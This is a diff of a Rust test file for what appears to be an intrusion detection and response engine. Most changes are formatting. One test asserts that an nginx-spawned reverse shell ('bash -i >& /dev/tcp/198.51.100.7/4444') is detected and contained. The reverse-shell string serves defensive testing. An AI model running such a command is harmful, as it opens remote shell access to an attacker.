@@ -22,18 +22,38 @@ struct Bench {
 impl Bench {
     fn new() -> Self {
         let policy = Policy::built_in().unwrap();
-        Self { panel: Panel::new(&policy, &[]), correlator: Correlator::new(&policy, IncidentId(1)), court: Court::new(&policy, [9; 32], WarrantId(1)), events: 0 }
+        Self {
+            panel: Panel::new(&policy, &[]),
+            correlator: Correlator::new(&policy, IncidentId(1)),
+            court: Court::new(&policy, [9; 32], WarrantId(1)),
+            events: 0,
+        }
     }
 
     fn see(&mut self, process: &Arc<Process>, kind: EventKind) -> Vec<IncidentUpdate> {
         self.events += 1;
-        let event = Event { id: EventId(self.events), at: at(self.events as i64), kind, process: Some(Arc::clone(process)), source: Source::Ebpf, complete: true };
+        let event = Event {
+            id: EventId(self.events),
+            at: at(self.events as i64),
+            kind,
+            process: Some(Arc::clone(process)),
+            source: Source::Ebpf,
+            complete: true,
+        };
         self.panel.observe(&event).into_iter().map(|signal| self.correlator.join(signal)).collect()
     }
 
     fn rulings(&mut self, incident: &Incident, mode: Mode, tree: &[Arc<Process>]) -> Vec<Ruling> {
         let proof = self.correlator.proof(incident.id);
-        self.court.propose(&Case { incident, proof: &proof, mode, lifeline: &Lifeline::default(), tree, active: &[], now: at(self.events as i64) })
+        self.court.propose(&Case {
+            incident,
+            proof: &proof,
+            mode,
+            lifeline: &Lifeline::default(),
+            tree,
+            active: &[],
+            now: at(self.events as i64),
+        })
     }
 }
 
@@ -50,14 +70,35 @@ fn process(pid: u32, exe: &str, argv: &[&str], parent: Option<&Process>, role: O
         roots.extend(parent.lineage.roots.iter().cloned());
     }
     Arc::new(Process {
-        key, pid, ppid: parent.map_or(1, |p| p.pid), parent: parent.map(|p| p.key), exe: exe.into(), exe_file: ExeFile::default(), argv: argv.iter().map(|a| HostText::from(*a)).collect(),
-        argv_truncated: false, cwd: "/".into(), uid: 33, euid: 33, user: Some("www-data".into()), loginuid: None, session: None, capabilities: 0, cgroup: "/".into(), container: None, unit: None,
-        netns: 0, stdio_sockets: 0, since: at(0), lineage: Lineage { ancestors: ancestors.into(), elided: 0, roots: roots.into() },
+        key,
+        pid,
+        ppid: parent.map_or(1, |p| p.pid),
+        parent: parent.map(|p| p.key),
+        exe: exe.into(),
+        exe_file: ExeFile::default(),
+        argv: argv.iter().map(|a| HostText::from(*a)).collect(),
+        argv_truncated: false,
+        cwd: "/".into(),
+        uid: 33,
+        euid: 33,
+        user: Some("www-data".into()),
+        loginuid: None,
+        session: None,
+        capabilities: 0,
+        cgroup: "/".into(),
+        container: None,
+        unit: None,
+        netns: 0,
+        stdio_sockets: 0,
+        since: at(0),
+        lineage: Lineage { ancestors: ancestors.into(), elided: 0, roots: roots.into() },
     })
 }
 
 fn connect(to: &str, port: u16) -> EventKind {
-    EventKind::Connect { net: Flow { proto: Protocol::Tcp, src: "0.0.0.0".parse().unwrap(), sport: 0, dst: Some(to.parse().unwrap()), dport: Some(port) } }
+    EventKind::Connect {
+        net: Flow { proto: Protocol::Tcp, src: "0.0.0.0".parse().unwrap(), sport: 0, dst: Some(to.parse().unwrap()), dport: Some(port) },
+    }
 }
 
 #[test]
@@ -73,7 +114,10 @@ fn a_web_intrusion_is_one_incident_and_is_contained_by_mode() {
     assert!(first.confidence.get() < 0.75, "one family alone: {}", first.confidence);
     let tree = [Arc::clone(&shell), Arc::clone(&inner)];
     let asked = bench.rulings(&first, Mode::Balanced, &tree);
-    assert!(matches!(asked.as_slice(), [Ruling::Ask { plan, .. }] if plan.to_string() == "freeze /usr/bin/bash (pid 900) and below"), "{asked:?}");
+    assert!(
+        matches!(asked.as_slice(), [Ruling::Ask { plan, .. }] if plan.to_string() == "freeze /usr/bin/bash (pid 900) and below"),
+        "{asked:?}"
+    );
 
     bench.see(&shell, connect(FAR, 4444));
     let last = bench.see(&inner, EventKind::Exec).pop().unwrap().incident;
@@ -83,7 +127,10 @@ fn a_web_intrusion_is_one_incident_and_is_contained_by_mode() {
     assert!(last.sentence.starts_with("nginx (pid 812) ran \"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\" as bash (pid 900), which connected to 198.51.100.7:4444"), "{}", last.sentence);
 
     let acted = bench.rulings(&last, Mode::Balanced, &tree);
-    let plans: Vec<String> = acted.into_iter().map(|ruling| if let Ruling::Act(warrant) = ruling { warrant.plan().to_string() } else { format!("{ruling:?}") }).collect();
+    let plans: Vec<String> = acted
+        .into_iter()
+        .map(|ruling| if let Ruling::Act(warrant) = ruling { warrant.plan().to_string() } else { format!("{ruling:?}") })
+        .collect();
     assert_eq!(plans, ["freeze /usr/bin/bash (pid 900) and below", "block to 198.51.100.7", "block from 198.51.100.7"]);
 }
 
